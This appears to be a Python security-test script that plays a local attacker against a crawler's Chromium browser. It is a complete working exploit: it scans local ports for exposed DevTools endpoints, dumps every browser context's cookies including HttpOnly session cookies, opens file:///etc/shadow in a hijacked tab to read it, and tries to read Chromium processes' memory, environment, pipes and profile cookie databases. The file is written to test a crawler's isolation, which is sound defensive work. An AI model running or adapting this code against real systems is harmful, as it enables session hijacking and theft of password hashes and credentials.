"""A local attacker's way into a crawler's Chromium: the standard-library script that
``test_security.py`` runs as another user (nobody), while a crawl runs.

It is issue 11's attack, made thorough.  It looks for a DevTools endpoint on every TCP
socket listening on this host (``/proc/net/tcp`` and ``tcp6``), probing each with
``GET /json/version`` and ``/json/list`` (no websocket needed to learn a browser is
there); on every endpoint found it opens the browser websocket and asks for every
context's cookies (``Storage.getCookies``, HttpOnly ones included), and in the browser
that holds the victim's session cookie (named by ``$VICTIM_COOKIE``: the attacker is
after that session) it opens ``file:///etc/shadow`` in a tab (``Target.createTarget``)
to read it with the browser's rights, and closes the tab again.  Then it tries the
other doors: the browser processes' descriptors (``/proc/<pid>/fd``: the pipes the
crawler talks over), their memory and environment, the profile's cookie database,
and ``/etc/shadow`` itself.

(Only the victim's browser gets a tab: on a shared test machine other browsers with a
DevTools port may be listening, and their own tests must not find a stray tab.)

It prints one JSON object: what it found and what it could read.  Run it with
``python3 - < devtools_attack.py`` (as any user); it needs nothing but the standard
library and Linux's /proc.
"""

import base64
import json
import os
import socket
import struct
import time
from concurrent.futures import ThreadPoolExecutor

TIMEOUT_S = 2.0  # per connection and per read: what does not answer in time is not Chromium
VICTIM_COOKIE = os.environ.get("VICTIM_COOKIE", "session")
report = {"listening": [], "endpoints": [], "cookies": [], "shadow": [], "opened": [], "errors": []}


def listening_ports():
    ports = set()
    for path in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(path) as table:
                rows = table.read().splitlines()[1:]
        except OSError as exc:
            report["errors"].append(f"{path}: {exc}")
            continue
        for row in rows:
            fields = row.split()
            if fields[3] == "0A":  # TCP_LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


def http_get(port, path):
    """The response to ``GET path`` on 127.0.0.1 (else ::1) at ``port``: whole when it
    says its length, else what came before the peer closed or went quiet."""
    for host in ("127.0.0.1", "::1"):
        try:
            sock = socket.create_connection((host, port), timeout=TIMEOUT_S)
        except OSError:
            continue
        data = b""
        with sock:
            try:
                sock.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
                while len(data) < 1 << 20:
                    head, _, body = data.partition(b"\r\n\r\n")
                    length = [
                        int(v)
                        for k, _, v in (h.partition(b":") for h in head.split(b"\r\n"))
                        if k.strip().lower() == b"content-length"
                    ]
                    if _ and length and len(body) >= length[0]:
                        break
                    chunk = sock.recv(65536)
                    if not chunk:
                        break
                    data += chunk
            except OSError:
                pass
        return data.decode("utf-8", "replace")
    return ""


class WebSocket:
    """Just enough of RFC 6455 for CDP: masked text frames out, unfragmented frames in."""

    def __init__(self, port, path):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT_S)
        key = base64.b64encode(os.urandom(16)).decode()
        self.sock.sendall(
            f"GET {path} HTTP/1.1\r\nHost: localhost:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
        )
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = self.sock.recv(4096)
            if not chunk:
                raise OSError("closed during the handshake")
            head += chunk
        head, self.buf = head.split(b"\r\n\r\n", 1)
        if b" 101 " not in head.split(b"\r\n", 1)[0]:
            raise OSError(f"no upgrade: {head[:100]!r}")
        self.ids = 0

    def send(self, text):
        data, mask = text.encode(), os.urandom(4)
        n = len(data)
        size = bytes([0x80 | n]) if n < 126 else bytes([0x80 | 126]) + struct.pack(">H", n)
        if n >= 1 << 16:
            size = bytes([0x80 | 127]) + struct.pack(">Q", n)
        self.sock.sendall(bytes([0x81]) + size + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))

    def _need(self, k):
        while len(self.buf) < k:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise OSError("websocket closed")
            self.buf += chunk

    def receive(self):
        self._need(2)
        n, offset = self.buf[1] & 0x7F, 2
        if n == 126:
            self._need(4)
            n, offset = struct.unpack(">H", self.buf[2:4])[0], 4
        elif n == 127:
            self._need(10)
            n, offset = struct.unpack(">Q", self.buf[2:10])[0], 10
        self._need(offset + n)
        payload, self.buf = self.buf[offset : offset + n], self.buf[offset + n :]
        return payload.decode("utf-8", "replace")

    def call(self, method, params=None, session=None):
        self.ids += 1
        message = {"id": self.ids, "method": method, "params": params or {}}
        if session:
            message["sessionId"] = session
        self.send(json.dumps(message))
        while True:
            reply = json.loads(self.receive())
            if reply.get("id") == self.ids:
                return reply.get("result", reply)


def exploit(port, ws_path):
    ws = WebSocket(port, ws_path)
    contexts = ws.call("Target.getBrowserContexts").get("browserContextIds", [])
    victim = False
    for context in [None, *contexts]:
        params = {"browserContextId": context} if context else {}
        for cookie in ws.call("Storage.getCookies", params).get("cookies", []):
            report["cookies"].append(f"{cookie.get('name')}={cookie.get('value')}")
            victim = victim or cookie.get("name") == VICTIM_COOKIE
    if not victim:
        return
    target = ws.call("Target.createTarget", {"url": "file:///etc/shadow"}).get("targetId")
    session = ws.call("Target.attachToTarget", {"targetId": target, "flatten": True}).get("sessionId")
    for _ in range(20):
        time.sleep(0.1)
        result = ws.call("Runtime.evaluate", {"expression": "document.body ? document.body.innerText : ''"}, session)
        text = result.get("result", {}).get("value") or ""
        if text:
            report["shadow"].append(text[:2000])
            break
    ws.call("Target.closeTarget", {"targetId": target})


def try_open(path, mode="rb"):
    try:
        with open(path, mode) as f:
            data = f.read(4096) if "r" in mode else b""
        report["opened"].append({"path": path, "data": data.decode("utf-8", "replace")[:500]})
    except OSError:
        pass


def probe(port):
    """Whether ``port`` is a DevTools endpoint (asked without a websocket), and if so the attack."""
    for path in ("/json/version", "/json/list"):
        answer = http_get(port, path)
        if "webSocketDebuggerUrl" not in answer:
            continue
        body = answer.split("\r\n\r\n", 1)[-1]
        report["endpoints"].append({"port": port, "path": path, "answer": body[:500]})
        if path == "/json/version":
            try:
                ws_url = json.loads(body)["webSocketDebuggerUrl"]
                exploit(port, "/" + ws_url.split("/", 3)[3])
            except (OSError, ValueError, KeyError) as exc:
                report["errors"].append(f"exploit on {port}: {exc!r}")


report["listening"] = listening_ports()
with ThreadPoolExecutor(max_workers=16) as pool:
    list(pool.map(probe, report["listening"]))

for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            argv = f.read().split(b"\0")
    except OSError:
        continue
    if not argv or b"chrom" not in os.path.basename(argv[0]):
        continue
    for fd in ("3", "4"):
        try_open(f"/proc/{pid}/fd/{fd}", "rb" if fd == "4" else "wb")
    try:
        report["opened"] += [{"path": f"/proc/{pid}/fd", "data": " ".join(os.listdir(f"/proc/{pid}/fd"))}]
    except OSError:
        pass
    try_open(f"/proc/{pid}/environ")
    try_open(f"/proc/{pid}/mem")
    for arg in argv:
        if arg.startswith(b"--user-data-dir="):
            profile = arg.split(b"=", 1)[1].decode()
            for name in ("Default/Cookies", "Default/Network/Cookies", "Local State"):
                try_open(os.path.join(profile, name))
try_open("/etc/shadow")
print(json.dumps(report))
